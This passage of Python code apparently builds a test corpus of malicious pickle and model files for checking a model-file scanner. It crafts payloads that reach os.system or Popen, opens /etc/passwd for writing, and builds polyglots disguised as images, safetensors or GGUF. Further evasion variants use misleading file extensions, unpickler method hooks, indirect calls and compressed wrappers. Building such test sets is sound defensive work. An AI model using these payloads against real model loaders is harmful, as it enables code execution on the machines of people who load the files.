    yield "dill-file.dill", stream(called("dill._dill._create_filehandle", word("/etc/passwd"), word("w")))
    yield "cloudpickle-import-of-a-joke.pkl", stream(called("cloudpickle.cloudpickle.subimport", word("antigravity")))
    yield "keras-model.pkl", stream(called(called("builtins.getattr", named("keras.src.models.sequential.Sequential"), word("_unpickle_model")),
                                           called("_io.BytesIO", raw(builders.archive({"metadata.json": b"{}", "config.json": _LAMBDA})))))  # fmt: skip
    yield "dill-import.dill", stream(called("dill._dill._import_module", word("os.system")))
    yield "dill-module-attribute.dill", stream(called("dill._dill._import_module_attr", word("os"), word("system")))
    yield (
        "dill-code.dill",
        stream(
            called(
                "dill._dill._create_code",
                word("os"),
                word("system"),
                raw(_SHELL_CODE.co_code),
                group(word("os"), word("system")),
            )
        ),
    )
    yield "marshal.pkl", stream(called("builtins.exec", called("marshal.loads", raw(marshal.dumps(_SHELL_CODE)))))


# -- what a file seems to be


def _polyglots() -> Iterator[Attack]:
    skip = b"X" + struct.pack("<I", 0)
    yield "pickle-then-zip.pt", PAYLOAD + builders.torch_zip(QUIET)
    yield "quiet-then-zip.pt", QUIET + builders.torch_zip(PAYLOAD)
    yield "zip-then-pickle.pt", builders.torch_zip(QUIET) + PAYLOAD
    gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00"
    yield "gif-head.pkl", b"G" + b"IF89a\x01\x00\x01" + b"0" + RUN + b"."
    yield "gif-behind.pkl", gif + PAYLOAD
    yield "png-behind.pkl", b"\x89" + b"PNG\r\n\x1a\n" + PAYLOAD
    yield "png-opcodes.pkl", b"\x89" + RUN + b"."
    yield "json-behind.pkl", b'{"a": 1}\n' + PAYLOAD
    yield "json-head.pkl", b"}" + word("a") + b"Ns0" + RUN + b"."
    yield "safetensors-length.safetensors", b"U\x07\0\0\0\0\0\0{" + b"0" + RUN + b"."
    yield "safetensors-behind.safetensors", builders.safetensors({}) + PAYLOAD
    yield "safetensors-in-header.safetensors", builders.safetensors(b'{"__metadata__":{"a":"' + PAYLOAD + b'"}}')
    yield "tar-magic.pkl", stream(b"X" + struct.pack("<I", 320) + b"a" * 250 + b"ustar" + b"b" * 65 + b"0", RUN)
    yield "gguf-head.gguf", b"GGUF" + b"x" * 5 + b"0" + RUN + b"."
    yield "elf-head.bin", b"\x7fELF" + PAYLOAD
    yield "mz-head.pkl", b"MZ\x90" + RUN + b"."
    yield "numpy-in-pickle.pkl", stream(raw(builders.npy(PAYLOAD, "|O", (1,))), RUN)
    yield "html-behind.pkl", b"<html></html>\n" + PAYLOAD
    yield "text-behind.pkl", b"# weights\n" * 3 + PAYLOAD
    yield "utf8-mark.pkl", b"\xef\xbb\xbf" + PAYLOAD
    yield "zeros-before.pkl", bytes(16) + PAYLOAD
    yield "empty-text.pkl", b"\x80\x04" + skip + b"0" + RUN + b"."


def _misnamed() -> Iterator[Attack]:
    for suffix in (".txt", ".json", ".csv", ".safetensors", ".bin", ".onnx", ".h5", ".png", "", ".gguf", ".md", ".yaml", ".py", ".pb", ".tflite", ".jpg", ".wav", ".dat",
                   ".weights", ".model", ".npy", ".npz", ".keras", ".zip", ".exe", ".xml", ".mp4", ".ttf", ".pdf", ".parquet"):  # fmt: skip
        yield f"weights{suffix}", PAYLOAD
        yield f"zipped{suffix}", builders.torch_zip(PAYLOAD)
        if suffix != ".py":  # the scanner of code reads what a source file holds, and says that it is none
            yield f"packed{suffix}", zlib.compress(PAYLOAD)
        if suffix not in (".py", ".yaml"):  # nothing that a text pickle has is no YAML
            yield f"text{suffix}", PLAIN


# -- calls that the stream never writes: by the unpickler itself, or by harmless functions

_FREE = "packaging._musllinux._get_musl_version"
"""A function of a known library that is only dangerous once it is called; it starts the program that it gets."""

_HOOKED = {
    "append": word("true") + b"a",
    "extend": b"(" + word("true") + b"e",
    "add": b"(" + word("true") + b"\x90",
    "__setstate__": word("true") + b"b",
}
"""Methods that the unpickler looks up on an object, and the opcodes that make it call them."""


def _pairs(*pairs: tuple[str, bytes]) -> bytes:
    return b"}(" + b"".join(word(key) + value for key, value in pairs) + b"u"


def _made() -> dict[str, bytes]:
    """Return ways to get something to call that is not imported as such, or is no danger by itself."""
    popen = called("dill._dill._create_namedtuple", word("Popen"), b")", word("subprocess"))
    module = called("functools.partial", named("numpy._core._ufunc_reconstruct"), word("this"))
    return {
        "named-tuple": popen,
        "resolved": module,
        "free": named(_FREE),
        "free-partial": called("functools.partial", named(_FREE)),
    }


def _methods() -> Iterator[Attack]:
    """Put a function where the unpickler looks for a method of an object."""
    space, many = "argparse.Namespace", [(f"k{index}", b"K\x01") for index in range(90)]
    for kind, made in _made().items():
        for method, tail in _HOOKED.items():
            empty, state = called(space), _pairs((method, made))
            pair = b"]" + group(word(method), made) + b"a"
            forms = {
                "state": empty + state + b"b",
                "slots": empty + group(b"N", state) + b"b",
                "folded": empty + group(b"N", _pairs(("__dict__", state))) + b"b",
                "late": empty + _pairs(*many, (method, made)) + b"b",
                "second-batch": empty + _pairs(*many) + b"(" + word(method) + made + b"ub",
                "one-item": empty + _pairs(*many) + word(method) + made + b"sb",
                "dict": empty + b"(" + b"".join(word(key) + value for key, value in (*many, (method, made))) + b"db",
                "ordered": empty + called("collections.OrderedDict", pair) + b"b",
                "ordered-items": empty + called("collections.OrderedDict") + b"(" + word(method) + made + b"ub",
                "by-keys": empty + called(called("builtins.getattr", named("builtins.dict"), word("fromkeys")), b"]" + word(method) + b"a", made) + b"b",
                "simple": called("types.SimpleNamespace", state),
                "partial": called("functools.partial", named("builtins.len")) + group(named("builtins.len"), b")", b"}", state) + b"b",
                "popped": empty + _pairs((method, called(called("builtins.getattr", b"]" + made + b"a", word("pop"))))) + b"b",
            }  # fmt: skip
            for form, value in forms.items():
                yield f"{kind}-{method}-{form}.pkl", stream(value, tail)


def _callers() -> Iterator[Attack]:
    """Have a function that is no danger call what it gets, or a method of it."""
    space = "types.SimpleNamespace"
    for kind, made in _made().items():
        ready = called("functools.partial", made, word("true"))
        for function in ("exp", "squeeze", "mean", "cumsum", "sort"):
            instance = called(space) + _pairs((function, ready)) + b"b"
            yield f"{kind}-numpy-{function}.pkl", stream(called(f"numpy.{function}", instance))
        missing = called("collections.defaultdict", ready)
        yield f"{kind}-array.pkl", stream(called("numpy.asarray", called(space) + _pairs(("__array__", ready)) + b"b"))
        yield f"{kind}-percent.pkl", stream(called("operator.mod", word("%(x)s"), missing))
        yield f"{kind}-format.pkl", stream(called(called("builtins.getattr", word("{0[x]}"), word("format")), missing))
        yield (
            f"{kind}-format-map.pkl",
            stream(called(called("builtins.getattr", word("{x}"), word("format_map")), missing)),
        )
        for function in ("max", "min", "sorted"):
            state = group(named(f"builtins.{function}"), group(b"]" + word("true") + b"a"), _pairs(("key", made)), b"N")
            yield (
                f"{kind}-{function}-key.pkl",
                stream(called("functools.partial", named(f"builtins.{function}")), state, b"b)R"),
            )
        for maker in ("abc.ABCMeta", "enum.EnumMeta"):
            cls = called(maker, word("X"), b")", _pairs(("__add__", ready)))
            yield f"{kind}-{maker}.pkl", stream(called("operator.add", called("copyreg.__newobj__", cls), word("x")))
        yield f"{kind}-matcher.pkl", stream(called("difflib.SequenceMatcher", made, b"]", b"]" + word("true") + b"a"))
        yield (
            f"{kind}-jax.pkl",
            stream(called("jax._src.array._reconstruct_array", made, group(word("true")), b"N", b"N")),
        )
    for identity in ("torch.utils.data._utils.collate.default_convert", "torch.jit._pickle.restore_type_tag"):
        value = called(identity, named("torch.nn.Module"), word("x"))
        yield (
            f"inject-{identity.rpartition('.')[2]}.pkl",
            stream(value, group(b"N", _pairs(("forward", named(_FREE)))), b"b"),
        )
    taken = called(called("builtins.getattr", b"]" + named("torch.nn.Module") + b"a", word("pop")))
    yield "inject-pop.pkl", stream(taken, group(b"N", _pairs(("forward", named(_FREE)))), b"b")
    yield "hub-class.pkl", stream(called("ultralytics.YOLO", word("x")))


def _loose_formats() -> Iterator[Attack]:
    """Forms that a loader takes and a strict reader does not."""
    instance = b"(S'true'\nios\nsystem\n."
    led = b"V" + b"x" * 70_000 + b"\n0" + PLAIN
    for form, content in (("instance", instance), ("led", led)):
        for name, pack in (
            ("gzip", gzip.compress),
            ("zlib", zlib.compress),
            ("bz2", bz2.compress),
            ("xz", lzma.compress),
        ):
            yield f"{form}-{name}", pack(content)
        yield (
            f"{form}-legacy-tar.pt",
            _tar([("sys_info", NONE), ("pickle", content), ("storages", NONE), ("tensors", NONE)]),
        )
    yield "led-by-text", led
    yield "led-by-text.txt", led
    yield "led-by-texts.dat", (b"V" + b"x" * 80 + b"\n0") * 1000 + PLAIN
    window = [{"id": lzma.FILTER_LZMA1, "dict_size": 0x10100}]
    yield "odd-window.joblib", lzma.compress(PAYLOAD, format=lzma.FORMAT_ALONE, filters=window)
    for name, descr, shape in (
        ("object", "'object'", "(1,)"), ("object-underscore", "'object_'", "(1,)"), ("several", "'f8,O'", "(1,)"),
        ("dictionary", "{'names': ['a'], 'formats': ['O']}", "(1,)"), ("true-extent", "'O'", "(True,)"), ("negative-extent", "'O'", "(-1,)"),
    ):  # fmt: skip
        text = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}\n".encode()
        content = b"\x93NUMPY\1\0" + struct.pack("<H", len(text)) + text + PAYLOAD
        yield f"header-{name}.npy", content
        yield f"header-{name}.npz", _zip([("a.npy", content)], zipfile.ZIP_DEFLATED)
